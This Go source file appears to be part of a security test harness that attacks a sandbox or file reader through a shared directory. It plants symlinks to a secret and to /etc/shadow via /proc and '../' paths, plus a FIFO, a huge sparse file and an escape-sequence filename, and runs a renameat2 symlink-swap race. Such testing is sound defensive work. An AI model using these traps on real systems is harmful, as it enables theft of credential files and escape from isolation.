package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// traps leaves in a directory what whoever reads it back may fall into: links to
// files of the host, by every way that a path can take; a FIFO that nobody
// writes to; a file without end; links in a circle; names that are not.
func traps() {
	dir := target.Shared
	up := strings.Repeat("../", 20)
	for name, to := range map[string]string{
		"absolute": target.Secret, "up": up + target.Secret[1:], "by-proc": "/proc/self/root" + target.Secret, "by-first": "/proc/1/root" + target.Secret,
		"by-cwd": "/proc/1/cwd/" + up + target.Secret[1:], "by-descriptor": "/proc/self/fd/3", "loop": "loop", "zero": "/dev/zero", "shadow": "/etc/shadow",
		"directory": filepath.Dir(target.Secret),
	} {
		must(os.Symlink(to, filepath.Join(dir, name)))
	}
	must(unix.Mkfifo(filepath.Join(dir, "fifo"), 0o666))
	must(os.WriteFile(filepath.Join(dir, "sparse"), nil, 0o644))
	must(os.Truncate(filepath.Join(dir, "sparse"), 1<<40))
	must(os.WriteFile(filepath.Join(dir, "\x1b]0;x\a\n..\\..\\x"), []byte("name"), 0o644))
	must(os.WriteFile(filepath.Join(dir, "plain"), []byte("plain"), 0o600))
	fmt.Println("set")
}

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(3)
	}
}

// race makes of one name now a directory and now a link to the secret's, while
// somebody reads and writes below it.
func race() {
	dir := target.Shared
	name, real, link := filepath.Join(dir, "now"), filepath.Join(dir, "real"), filepath.Join(dir, "link")
	must(os.Mkdir(real, 0o755))
	must(os.WriteFile(filepath.Join(real, filepath.Base(target.Secret)), []byte("inside"), 0o644))
	must(os.Symlink(filepath.Dir(target.Secret), link))
	must(os.Mkdir(name, 0o755))
	must(unix.Renameat2(unix.AT_FDCWD, name, unix.AT_FDCWD, real, unix.RENAME_EXCHANGE))
	fmt.Println("set")
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		_ = unix.Renameat2(unix.AT_FDCWD, name, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
	}
}
